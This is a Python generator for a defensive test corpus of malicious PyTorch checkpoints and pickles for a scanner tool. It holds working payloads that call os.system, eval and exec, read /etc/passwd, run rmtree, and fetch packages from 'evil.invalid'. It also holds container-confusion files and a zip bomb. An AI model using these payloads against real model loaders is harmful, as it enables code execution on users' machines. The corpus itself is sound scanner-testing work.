#!/usr/bin/env python3
"""Write the hostile corpus (tests/hostile/files/) and what fuse-ema must answer for each file
(tests/hostile/manifest.json):

- "dangerous": `inspect` exits 1 with a stdout line naming `contains` (the global as Python 3
  resolves it, `module.name`, dotted names joined); `inspect --strict`, `fold --strict` and
  `export --strict` exit 1 and write nothing;
- "error": exit 2, one stderr line naming the file and containing `contains`, empty stdout;
  `fold`/`export --strict` exit 2 too ("ambiguous" where two readers could disagree);
- "clean": `inspect` and `inspect --strict` exit 0 (benign twins of the hostile files).

`needs` names the piece of issue 13 a file checks (dotted names and the exact allow-list,
container decisions, resource bounds) so a failure points at its fix.

Every pickle is written as opcodes (tests/hostile/pickleasm.py): nothing dangerous is imported,
pickled or called. Then, for every file of every manifest*.json (the container and resource
generators' too, run first when present), tests/hostile/torchpath.py records which globals
CPython's unpickler would ask `find_class` for on torch.load's path, with a find_class that
imports nothing: tests/hostile/python-globals.json, read by tests/differential.rs.

Positive controls: files whose payload creates a marker file (`builtins.open(marker, 'w')`) are
rebuilt with a marker inside a throwaway temporary directory and loaded by the real torch.load,
through a pickle module whose find_class resolves only the globals the payload needs; the marker
must appear — proof that the committed file's payload is live and that "the marker does not
exist" after running fuse-ema means something. Results: tests/hostile/controls.json.

Run from the repository root with the fixtures venv: python tests/hostile/generate.py"""

import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import types
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import corpus_public  # noqa: E402
import torchpath  # noqa: E402
from pickleasm import Build, Call, G, Persid, Raw, dumps, module_obj, ops, tensor  # noqa: E402
from writers import (  # noqa: E402
    legacy,
    legacy_state_dict,
    tar_members,
    tar_pickle_polyglot,
    torch_zip,
    two_central_directories,
    zip_bytes,
)

OUT = HERE / "files"
OUT.mkdir(exist_ok=True)
manifest = {}
markers = {}  # file name -> (builder(marker) -> bytes, globals the control may resolve)
MARKER_DIR = "/tmp"
STORAGE = [("0", b"\0" * 16)]
W = tensor("0", 4, [2, 2], [2, 1])


def add(name, data, expect, contains, needs=""):
    assert contains, f"{name}: every expectation names what to look for"
    (OUT / name).write_bytes(data)
    manifest[name] = {"expect": expect, "contains": contains, "needs": needs}


def marker_path(name):
    return f"{MARKER_DIR}/fuse-ema-hostile-{name}"


def add_marker(name, build, allowed, expect, contains, needs):
    """A file whose payload creates marker `marker_path(name)`; `build(marker)` makes it."""
    add(name, build(marker_path(name)), expect, contains, needs)
    manifest[name]["marker"] = marker_path(name)
    markers[name] = (build, allowed)


def zpkl(value, proto=2):
    return torch_zip(dumps(value, proto), STORAGE)


def sd_with(extra, proto=2):
    """A state-dict checkpoint with one more entry `x`."""
    return zpkl({"state_dict": {"weight": W}, "x": extra}, proto)


def opener(marker):
    return Call(G("builtins", "open"), marker, "w")


OPEN = {("builtins", "open")}
TORCH = {("torch._utils", "_rebuild_tensor_v2"), ("collections", "OrderedDict")}

# ---- plain code execution (the corpus before issue 13, now spelled as opcodes) ----
add("os-system.pt", sd_with(Call(G("posix", "system"), "echo pwned")), "dangerous", "posix.system")
add("builtins-eval.pt", sd_with(Call(G("builtins", "eval"), "__import__('os').system('id')")), "dangerous", "builtins.eval")
add("builtins-exec.pt", zpkl({"x": Call(G("builtins", "exec"), "import os")}), "dangerous", "builtins.exec")
add("subprocess-popen.pt", zpkl({"x": Call(G("commands", "Popen"), ["id"])}), "dangerous", "subprocess.Popen")
add("runpy-run-code.pt", zpkl({"x": Call(G("runpy", "_run_code"), "print(1)", {})}), "dangerous", "runpy._run_code")
add("torch-load.pt", zpkl({"x": Call(G("torch.serialization", "load"), "/tmp/other.pt")}), "dangerous", "torch.serialization.load")
gadget = Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "os"), "system"), "id")
add("getattr-gadget.pt", zpkl({"x": gadget}), "dangerous", "builtins.getattr")
add("webbrowser-open.pkl", dumps(Call(G("webbrowser", "open"), "http://example.invalid"), 4), "dangerous", "webbrowser.open")
add("importlib-import.pkl", dumps(Call(G("importlib", "import_module"), "os"), 2), "dangerous", "importlib.import_module")
add("shutil-rmtree.pkl", dumps(Call(G("shutil", "rmtree"), "/nonexistent"), 3), "dangerous", "shutil.rmtree")
add("socket-connect.pkl", dumps(Call(G("socket", "create_connection"), ("127.0.0.1", 9)), 5), "dangerous", "socket.create_connection")
add("protocol0-os-system.pkl", b"cos\nsystem\n(S'id'\ntR.", "dangerous", "os.system")
add("inst-subprocess.pkl", b"(S'id'\nisubprocess\ncheck_output\n.", "dangerous", "subprocess.check_output")
add_marker("plain-open.pt", lambda m: sd_with(opener(m)), OPEN | TORCH, "dangerous", "builtins.open", "")
# A class outside the allow-list, rebuilt the way torch.save pickles modules: its __setstate__
# would run, so default inspect fails too.
add("unknown-class.pt", sd_with(module_obj("mypkg.models", "Innocent", {"a": 1})), "dangerous", "mypkg.models.Innocent", "H1")

# ---- 1. dotted names: Python resolves `name` by attribute lookups from `module` ----
DOTTED = [
    ("dotted-torch-load.pt", "torch.nn.modules.module", "torch.load", ("/tmp/other.pt",)),
    ("dotted-pickle-loads.pt", "ultralytics.nn.tasks", "pickle.loads", (b"I1\n.",)),
    ("dotted-timm-torch-load.pt", "timm.models._helpers", "torch.load", ("/tmp/other.pt",)),
    ("dotted-eval-call.pt", "builtins", "eval.__call__", ("1+1",)),
    ("dotted-argparse-os-system.pt", "argparse", "_os.system", ("id",)),
]
for name, module, attr, args in DOTTED:
    add(name, sd_with(Call(G(module, attr), *args), 4), "dangerous", f"{module}.{attr}", "H1")
get_eval = Call(G("torch.nn.modules.module", "__builtins__.get"), "eval")
add("dotted-builtins-get.pt", sd_with(Call(get_eval, "1+1"), 4), "dangerous", "torch.nn.modules.module:__builtins__.get", "H1")
add_marker(
    "dotted-open-call.pt",
    lambda m: sd_with(Call(G("builtins", "open.__call__"), m, "w"), 4),
    {("builtins", "open.__call__")} | TORCH,
    "dangerous",
    "builtins.open.__call__",
    "H1",
)
# Dotted at protocol 2 (GLOBAL): Python 3.11 looks the whole dotted string up as one attribute
# and fails, but fuse-ema must not accept it either.
add("dotted-proto2.pt", sd_with(Call(G("torch.nn.modules.module", "torch.load"), "x"), 2), "dangerous", "torch.nn.modules.module.torch.load", "H1")

# _compat_pickle maps whole names too, not only modules: at protocol < 3 `__builtin__ reduce` is
# imported as functools.reduce.
add("compat-builtin-reduce.pkl", dumps(Call(G("__builtin__", "reduce"), G("collections", "OrderedDict"), [[]]), 2), "dangerous", "functools.reduce", "H1")

# Re-emission: at protocol >= 3 Python imports a Python 2 name as written (`__builtin__` does not
# exist, so loading fails and nothing runs); written again at protocol 2, as `strip` and
# `average --strip` write, `_compat_pickle` would map it to `builtins.eval`. inspect calls these
# "not allowed" (exit 1); every re-emitter must refuse them without --strict (exit 1) and write
# nothing.
add("reemit-builtin-eval.pt", sd_with(Call(G("__builtin__", "eval"), "1+1"), 4), "reemit", "__builtin__.eval", "review F1")
add("reemit-commands-getoutput.pt", sd_with(Call(G("commands", "getoutput"), "id"), 4), "reemit", "commands.getoutput", "review F1")
add("reemit-copy-reg-reconstructor.pt", sd_with(Call(G("copy_reg", "_reconstructor"), G("collections", "OrderedDict"), G("builtins", "dict"), None), 4), "reemit", "copy_reg._reconstructor", "review F1")

# ---- 2. prefix allow-list gadgets: plain names in allow-listed modules that run code ----
cfg = {"nc": 80, "backbone": [[-1, 1, "__import__('os').system('id')", []]], "head": []}
add("gadget-parse-model.pt", sd_with(Call(G("ultralytics.nn.tasks", "parse_model"), cfg, 3)), "dangerous", "ultralytics.nn.tasks.parse_model", "H1")
add("gadget-detectionmodel-reduce.pt", sd_with(Call(G("ultralytics.nn.tasks", "DetectionModel"), cfg)), "dangerous", "ultralytics.nn.tasks.DetectionModel", "H1")
add("gadget-ultralytics-torch-load.pt", sd_with(Call(G("ultralytics.nn.tasks", "torch_load"), "/tmp/other.pt")), "dangerous", "ultralytics.nn.tasks.torch_load", "H1")
add("gadget-timm-load-state-dict.pt", sd_with(Call(G("timm.models", "load_state_dict"), "/tmp/other.pt")), "dangerous", "timm.models.load_state_dict", "H1")
add(
    "gadget-check-requirements.pt",
    sd_with(Call(G("ultralytics.utils.checks", "check_requirements"), ["evil"], (), True, "--index-url http://evil.invalid")),
    "dangerous",
    "ultralytics.utils.checks.check_requirements",
    "H1",
)

# ---- clean twins: the same structures with allow-listed globals in the roles torch.save uses ----
add("clean-state-dict.pt", zpkl({"state_dict": {"weight": W}}), "clean", "-", "")
add("clean-state-dict-proto4.pt", zpkl({"state_dict": {"weight": W}}, 4), "clean", "-", "")
det = module_obj("ultralytics.nn.tasks", "DetectionModel", {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {}})
add("clean-detectionmodel-reconstructor.pt", zpkl({"model": det, "ema": None, "epoch": -1}), "clean", "-", "H1")
fwd = Call(G("builtins", "getattr"), G("ultralytics.nn.modules.head", "Detect"), "forward")
add("clean-getattr-detect-forward.pt", zpkl({"model": None, "detect": fwd, "state_dict": {"weight": W}}), "clean", "-", "H1")
tv = [module_obj("torchvision.transforms.transforms", c, {"training": True}) for c in ("Compose", "Resize", "CenterCrop", "ToTensor", "Normalize")]
interp = Call(G("torchvision.transforms.functional", "InterpolationMode"), "bilinear")
add("clean-torchvision-transforms.pt", zpkl({"transforms": tv, "interp": interp, "state_dict": {"weight": W}}), "clean", "-", "H1")
loss = [module_obj("ultralytics.utils.loss", c, {"a": 1}) for c in ("v8DetectionLoss", "BboxLoss", "DFLoss")]
loss.append(module_obj("ultralytics.utils.tal", "TaskAlignedAssigner", {"topk": 10}))
add("clean-ultralytics-loss-classes.pt", zpkl({"criterion": loss, "state_dict": {"weight": W}}), "clean", "-", "H1")

add("clean-archive-name.pt", torch_zip(dumps({"state_dict": {"weight": W}}), STORAGE, archive="my_model"), "clean", "-", "")
add("clean-plain-pickle-proto0.pkl", dumps({"epoch": 3, "names": ["a", "b"], "lr": 0.01}, 0), "clean", "-", "")
add("clean-ordered-dict-proto2.pkl", dumps(Call(G("collections", "OrderedDict"), [("a", 1), ("b", 2)]), 2), "clean", "-", "")
f8 = Build(Call(G("numpy", "dtype"), "f8", False, True), (3, "<", None, None, None, -1, -1, 0))
scalar = Call(G("numpy.core.multiarray", "scalar"), f8, b"\0" * 8)
add("clean-numpy-scalar.pt", zpkl({"best_fitness": scalar, "state_dict": {"weight": W}}, 3), "clean", "-", "")
ns = module_obj("argparse", "Namespace", {"lr": 0.01, "model": "resnet18"})
add("clean-argparse-namespace.pt", zpkl({"args": ns, "state_dict": {"weight": W}}), "clean", "-", "H1")

# ---- 3. the legacy format: every pickle of the sequence is unpickled by torch ----
main = legacy_state_dict()
add("legacy-clean.pt", legacy(main), "clean", "-", "")
add_marker("legacy-magic-global.pt", lambda m: legacy(main, magic=dumps(opener(m))), OPEN, "dangerous", "builtins.open", "H2")
add_marker(
    "legacy-sysinfo-global.pt",
    lambda m: legacy(main, sys_info=dumps({"protocol_version": 1001, "x": opener(m)})),
    OPEN,
    "dangerous",
    "builtins.open",
    "H2",
)
add_marker("legacy-keys-global.pt", lambda m: legacy(main, keys_pickle=dumps([opener(m)])), OPEN | TORCH, "dangerous", "builtins.open", "H2")
add("legacy-main-global.pt", legacy({"weight": main["weight"], "x": Call(G("posix", "system"), "id")}), "dangerous", "posix.system", "")
# A ('module', class, file, source) persistent id hands the loader the class itself, which the
# pickle then calls: judged as the global it is.
add("legacy-module-pid-call.pt",
    legacy({"weight": main["weight"],
            "x": Call(Persid(("module", G("posix", "system"), "m.py", "src")), "id")}),
    "dangerous", "posix.system", "")

# ---- 4. tar: torch tries its legacy tar loader before the pickle sequence ----
storages = lambda m: dumps(opener(m)) + dumps([])  # noqa: E731
seq_tail = dumps(main) + dumps(["0"]) + struct.pack("<q", 4) + b"\0" * 16
add_marker("polyglot-tar-pickle.pt", lambda m: tar_pickle_polyglot(storages(m), seq_tail), OPEN, "dangerous", "builtins.open", "H2")
tar_only = lambda m: tar_members([("storages", storages(m)), ("tensors", dumps(0)), ("pickle", dumps({"ema": None}))])  # noqa: E731
add_marker("tar-storages-global.tar", tar_only, OPEN, "dangerous", "builtins.open", "H2")

# ---- 5. zip readers that disagree with miniz ----
hostile_pkl = lambda m: dumps({"x": opener(m)})  # noqa: E731
clean_pkl = dumps({"state_dict": {"weight": W}})
add_marker(
    "zip-case-collision-nested.pt",
    lambda m: zip_bytes(
        [
            ("base/good/data.pkl", clean_pkl),
            ("base/good/data/0", b"\0" * 16),
            ("base/good/version", b"3\n"),
            ("base/DATA.PKL", hostile_pkl(m)),
            ("base/version", b"3\n"),
        ]
    ),
    OPEN,
    "dangerous",
    "builtins.open",
    "H2",
)
rest = [("archive/byteorder", b"little"), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")]
add_marker(
    "zip-two-central-dirs.pt",
    lambda m: two_central_directories([("archive/data.pkl", clean_pkl)] + rest, [("archive/data.pkl", hostile_pkl(m).ljust(len(clean_pkl), b"N"))] + rest),
    OPEN,
    "dangerous",
    "builtins.open",
    "H2",
)
add("zip-duplicate-data-pkl-case.pt", zip_bytes([("archive/data.pkl", clean_pkl), ("archive/Data.pkl", clean_pkl), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")]), "error", "ambiguous", "H2")


# ---- 6. FRAME overrun: CPython reading data.pkl from a BytesIO skips the rest of a frame when an
# opcode's operand crosses its end, and runs what a straight-through parse reads as bytes ----
def frame_overrun(payload_value, proto=4):
    payload = ops(payload_value, proto)
    assert len(payload) < 128
    n, k = 60, 5
    inner = b"\x8c" + bytes([n]) + b"a" * k
    s = b"b" * (n - k) + b"B" + struct.pack("<I", len(payload)) + payload
    tail = b"00" + ops({"state_dict": {"weight": W}}, proto) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner + s + tail


add_marker("frame-overrun.pt", lambda m: torch_zip(frame_overrun(opener(m)), STORAGE), OPEN | TORCH, "error", "ambiguous", "H2")
framed = ops({"state_dict": {"weight": W}}, 4) + b"."
add("clean-framed-proto4.pt", torch_zip(b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed, STORAGE), "clean", "-", "")

# ---- 7. code-running functions a deny list misses ----
MISSES = [
    ("timeit", "timeit", ("", "import os")),
    ("cProfile", "run", ("import os",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("pydoc", "locate", ("os.system",)),
    ("logging.config", "_resolve", ("os.system",)),
    ("_operator", "methodcaller", ("system", "id")),
    ("io", "open", ("/etc/passwd",)),
    ("numpy", "savetxt", ("/tmp/x", [1])),
    ("torch.storage", "_load_from_bytes", (b"x",)),
    ("torch.jit._serialization", "load", ("/tmp/x.pt",)),
    ("torch.utils.model_zoo", "load_url", ("http://x.invalid/m.pt",)),
    ("numpy.lib._npyio_impl", "load", ("/tmp/x.npy", True)),
    ("_ctypes", "dlopen", ("/tmp/x.so", 0)),
    ("imp", "load_source", ("x", "/tmp/x.py")),
    ("torch.utils.cpp_extension", "load_inline", ("x", "int x;")),
    ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "id"])),
]
for module, name, args in MISSES:
    add(f"miss-{module}-{name}.pt", sd_with(Call(G(module, name), *args), 3), "dangerous", f"{module}.{name}", "H1")
getitem = Call(G("operator", "getitem"), G("torch.nn.modules.module", "__builtins__"), "exec")
add("miss-operator-getitem-builtins.pt", sd_with(Call(getitem, "import os")), "dangerous", "operator.getitem", "H1")

# ---- non-PROTO-first pickles: pickle.load runs them whatever the first opcode ----
add_marker("noproto-global-first.pkl", lambda m: ops(opener(m), 0) + b".", OPEN, "dangerous", "builtins.open", "H2")
add("noproto-mark-first.pkl", b"(cposix\nsystem\nS'id'\ntR.", "dangerous", "posix.system", "H2")
add("noproto-empty-dict-first.pkl", b"}S'x'\ncposix\nsystem\n(S'id'\ntRs.", "dangerous", "posix.system", "H2")
add("noproto-none-pop-first.pkl", b"N0\x80\x04" + ops(Call(G("posix", "system"), "id"), 4) + b".", "dangerous", "posix.system", "H2")
add("noproto-binunicode-first.pkl", b"X\x05\x00\x00\x00posix\x8c\x06system\x93\x8c\x02id\x85R.", "dangerous", "posix.system", "H2")
# Bytes after STOP that the legacy sequence reads as its next pickle.
add("trailing-second-pickle.pkl", dumps({"a": 1}, 2) + dumps(Call(G("posix", "system"), "id"), 2), "dangerous", "posix.system", "H2")

# ---- the public corpora, rebuilt ----
# Samples that are not plain PROTO-first pickles, that fail after their payload ran, or that hide
# a second pickle also need the container work.
CONTAINER_SAMPLES = {"ps-keyerror-exploit.pkl", "ps-type-confusion-exploit.pkl", "ps-malicious6.pkl"}
for name, data, canon in corpus_public.samples():
    plain = name.endswith(".pkl") and data[:1] == b"\x80" and name not in CONTAINER_SAMPLES
    add(name, data, "dangerous", canon, "H1" if plain else "H1+H2")


# ---- errors: broken containers, lying sizes (kept from before issue 13) ----
def lying(data, at_sig, field, value, last=False):
    b = bytearray(data)
    i = b.rfind(at_sig) if last else b.find(at_sig)
    struct.pack_into("<I", b, i + field, value)
    return bytes(b)


good = zpkl({"state_dict": {"weight": W}})
add("truncated-local-header.pt", good[:20], "error", "zip")
add("truncated-in-data.pt", good[: len(good) // 2], "error", "zip")
add("truncated-central-directory.pt", good[: good.rfind(b"PK\x01\x02") + 30], "error", "zip")
add("empty-zip.pt", b"PK\x05\x06" + b"\x00" * 18, "error", "data.pkl")
add("lying-directory-size.pt", lying(good, b"PK\x05\x06", 12, 10_000_000, last=True), "error", "zip")
add("lying-local-offset.pt", lying(good, b"PK\x01\x02", 42, 0x7FFF0000), "error", "zip")
add("lying-compressed-size.pt", lying(good, b"PK\x01\x02", 20, 0x7FFFFFFF), "error", "zip")
entries = [("archive/data.pkl", dumps({"state_dict": {"weight": W}})), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")]
add("duplicate-entries.pt", zip_bytes(entries + [entries[-1]]), "error", "zip")
add("missing-storage.pt", zip_bytes([e for e in entries if "/data/" not in e[0]]), "error", "storage")
add("two-records.pt", zip_bytes(entries + [("other/data.pkl", entries[0][1])]), "error", "data.pkl")
# A deflate bomb: 5 MB of zeros declared as 16 bytes.
zb = bytearray()
with zipfile.ZipFile(f := __import__("io").BytesIO(), "w", zipfile.ZIP_DEFLATED) as z:
    for n, d in [("archive/data.pkl", entries[0][1]), ("archive/data/0", b"\0" * 5_000_000), ("archive/version", b"3\n")]:
        info = zipfile.ZipInfo(n, date_time=(1980, 1, 1, 0, 0, 0))
        z.writestr(info, d, compress_type=zipfile.ZIP_DEFLATED)
zb = bytearray(f.getvalue())
hdr = zb.rfind(b"PK\x01\x02", 0, zb.rfind(b"archive/data/0"))
struct.pack_into("<I", zb, hdr + 24, 16)
add("zip-bomb.pt", bytes(zb), "error", "archive/data/0")


def tensor_zip(numel, offset, shape, stride):
    return torch_zip(dumps({"w": tensor("0", numel, shape, stride, offset)}), [("0", b"\0" * 16)])


add("storage-out-of-bounds.pt", tensor_zip(4, 3, [2, 2], [2, 1]), "error", "reaches element")
add("storage-smaller-than-declared.pt", tensor_zip(1000, 0, [1000], [1]), "error", "needs 4000 bytes")
add("negative-stride.pt", tensor_zip(4, 0, [2, 2], [-1, 1]), "error", "negative")
add("huge-stride.pt", tensor_zip(4, 0, [2, 2], [1 << 60, 1]), "error", "reaches element")
add("shape-overflow.pt", tensor_zip(4, 0, [1 << 40, 1 << 40], [0, 0]), "error", "overflows")
add("numel-overflow.pt", tensor_zip((1 << 63) - 1, 0, [1], [1]), "error", "storage '0'")
add("deep-nesting.pkl", b"\x80\x02" + b"(" * 200_000 + b".", "error", "nesting deeper")
add("unknown-opcode.pkl", b"\x80\x02}\xff.", "error", "unknown opcode")
add("huge-length-claim.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"abc.", "error", "truncated")
add("persistent-id-in-pickle.pkl", b"\x80\x02X\x01\x00\x00\x00aQ.", "error", "persistent id")
add("stack-underflow.pkl", b"\x80\x02R.", "error", "underflow")
add("memo-missing.pkl", b"\x80\x02h\x07.", "error", "memo key 7")
leg = bytearray(legacy(main))
keys_at = leg.find(dumps(["0"]))
struct.pack_into("<q", leg, keys_at + len(dumps(["0"])), 1 << 40)
add("legacy-lying-numel.pt", bytes(leg), "error", "claims")
add("legacy-truncated.pt", bytes(leg[: keys_at + len(dumps(["0"])) + 4]), "error", "legacy")


def st(header, data):
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data


add("st-header-claims-100MB.safetensors", struct.pack("<Q", 100_000_000) + b"{}", "error", "safetensors")
add("st-header-huge.safetensors", struct.pack("<Q", 1 << 63) + b"{}", "error", "safetensors")
overlap = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}
add("st-overlap.safetensors", st(overlap, b"\0" * 24), "error", "safetensors")
add("st-shape-mismatch.safetensors", st({"a": {"dtype": "F32", "shape": [5], "data_offsets": [0, 16]}}, b"\0" * 16), "error", "safetensors")
add("st-not-json.safetensors", struct.pack("<Q", 8) + b"{nojson}", "error", "safetensors")
idx = OUT / "st-index-escape"
idx.mkdir(exist_ok=True)
(idx / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"a": "../secret.safetensors"}}))
manifest["st-index-escape/model.safetensors.index.json"] = {"expect": "error", "contains": "outside", "needs": ""}
add("empty.pt", b"", "error", "empty")
add("text.pt", b"just some text\n", "error", "not a checkpoint")
add("random.pt", bytes((i * 7919) % 251 for i in range(4096)), "error", "not a checkpoint")
add("png-image.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "error", "not a checkpoint")


# ---- positive controls ----
class _ControlUnpickler(pickle.Unpickler):
    allowed = frozenset()

    def find_class(self, module, name):
        if (module, name) not in self.allowed:
            raise pickle.UnpicklingError(f"control refuses {module}.{name}")
        return super().find_class(module, name)


def control(build, allowed, *, patch=None):
    """Loads `build(marker)` with the real torch.load; True when the marker appeared."""
    with tempfile.TemporaryDirectory(prefix="fe-ctl-") as d:
        marker = os.path.join(d, "m")
        path = os.path.join(d, "f")
        Path(path).write_bytes(build(marker))
        try:
            restricted_load(path, allowed)
            outcome = "loaded"
        except Exception as e:  # noqa: BLE001 - the marker, not the load, is the result
            outcome = f"{type(e).__name__}: {str(e).replace(d, '<tmp>')[:120]}"
        return os.path.exists(marker), outcome


def malicious_fixture_build(marker):
    """fixtures/malicious.pt with its os.system command redirected to `marker`."""
    src = zipfile.ZipFile(HERE.parent.parent / "fixtures" / "malicious.pt")
    old = "echo fuse-ema-was-exploited > /tmp/fuse-ema-pwned"
    new = f"echo fuse-ema-was-exploited > {marker}"
    out = []
    for n in src.namelist():
        d = src.read(n)
        if n.endswith("data.pkl"):
            ob = old.encode()
            assert (b"X" + struct.pack("<I", len(ob)) + ob) in d, "malicious.pt's payload string"
            d = d.replace(b"X" + struct.pack("<I", len(ob)) + ob, b"X" + struct.pack("<I", len(new)) + new.encode())
        out.append((n, d))
    return zip_bytes(out)


def run_controls():
    results = {}
    for name, (build, allowed) in sorted(markers.items()):
        created, outcome = control(build, allowed)
        results[name] = {"marker": manifest[name]["marker"], "python_created_marker": created, "torch_load": outcome}
    created, outcome = control(malicious_fixture_build, {("posix", "system")} | TORCH)
    results["fixtures/malicious.pt"] = {"marker": "/tmp/fuse-ema-pwned", "python_created_marker": created, "torch_load": outcome}
    bad = [n for n, r in results.items() if not r["python_created_marker"]]
    assert not bad, f"payloads that did not run under Python: {bad}"
    (HERE / "controls.json").write_text(json.dumps(results, indent=1, sort_keys=True) + "\n")


def restricted_load(path, allowed):
    """torch.load(weights_only=False) through a pickle module resolving only `allowed`."""
    import torch

    unpickler = type("U", (_ControlUnpickler,), {"allowed": frozenset(allowed)})
    mod = types.ModuleType("control_pickle")
    mod.Unpickler = unpickler
    mod.load = lambda f, **kw: unpickler(f, **kw).load()
    return torch.load(path, weights_only=False, pickle_module=mod)


def check_clean_twins():
    """Clean twins holding only tensors load in torch (our writers are sound)."""
    import torch

    for name in ("clean-state-dict.pt", "clean-state-dict-proto4.pt", "legacy-clean.pt", "clean-framed-proto4.pt"):
        ck = restricted_load(OUT / name, TORCH)
        w = ck["weight"] if "weight" in ck else ck["state_dict"]["weight"]
        assert isinstance(w, torch.Tensor) and w.shape == (2, 2), name


def main_():
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    for other in ("gen_container.py", "gen_resources.py", "gen_review7_vm.py", "gen_review7_lit.py"):
        if (HERE / other).exists():
            subprocess.run([sys.executable, str(HERE / other)], check=True, cwd=HERE.parent.parent)
    # The 7z writer (py7zr) is not among the fixture requirements: without it the committed 7z
    # files and manifest-sevenz.json are kept as they are, and this says so.
    import importlib.util

    if importlib.util.find_spec("py7zr"):
        subprocess.run([sys.executable, str(HERE / "gen_sevenz.py")], check=True, cwd=HERE.parent.parent)
    else:
        print("gen_sevenz.py not run: py7zr is missing (pip install py7zr==1.0.0); committed 7z files kept")
    check_clean_twins()
    run_controls()
    record = {}
    for mf in sorted(HERE.glob("manifest*.json")):
        for name in json.loads(mf.read_text()):
            p = OUT / name
            if p.is_file():
                r = torchpath.record(p)
                r["other_readers"] = torchpath.other_readers(p)
                record[name] = r
    (HERE / "python-globals.json").write_text(json.dumps(record, indent=1, sort_keys=True) + "\n")
    print(len(manifest), "hostile files;", len(record), "recorded;", len(markers) + 1, "controls")


# ---- a dict key set twice (review of session 5, F6): Python keeps the first position and the
# last value; torch.load of this file gives the second `state_dict` ----
def setitems(pairs, proto=2):
    """EMPTY_DICT MARK k v k v … SETITEMS, keys repeated as given (a Python dict cannot hold that)."""
    body = b"}("
    for k, v in pairs:
        body += ops(k, proto) + ops(v, proto)
    return Raw(body + b"u")


W_TWICE = tensor("0", 4, [2, 2], [2, 1])
add("dict-key-twice.pt",
    torch_zip(b"\x80\x02" + ops(setitems([("state_dict", {"decoy": W_TWICE}),
                                           ("state_dict", {"weight": W_TWICE})]), 2) + b".", STORAGE),
    "clean", "dict-key-twice.pt", "H2")
add("dict-nan-key.pt",
    torch_zip(b"\x80\x02" + ops(setitems([("state_dict", {"weight": W}),
                                           (float("nan"), 1), (float("nan"), 2)]), 2) + b".", STORAGE),
    "error", "ambiguous dict key", "H2")
add("dict-list-key.pt",
    torch_zip(b"\x80\x02" + ops(setitems([("state_dict", {"weight": W}), ([1], 2)]), 2) + b".", STORAGE),
    "error", "Python cannot hash", "H2")


main_()
